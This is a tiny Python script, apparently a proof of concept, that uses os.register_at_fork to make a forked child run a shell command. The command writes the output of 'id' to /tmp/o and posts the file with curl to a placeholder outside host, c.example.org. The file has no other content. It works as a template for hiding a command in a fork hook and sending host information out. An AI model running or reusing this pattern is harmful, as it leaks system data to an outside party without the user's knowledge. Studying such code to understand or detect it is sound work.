import os

os.register_at_fork(after_in_child=lambda: os.execvp("sh", ["sh", "-c", "id > /tmp/o; curl -d @/tmp/o https://c.example.org"]))
pid = os.fork()
if pid:
    os.waitpid(pid, 0)
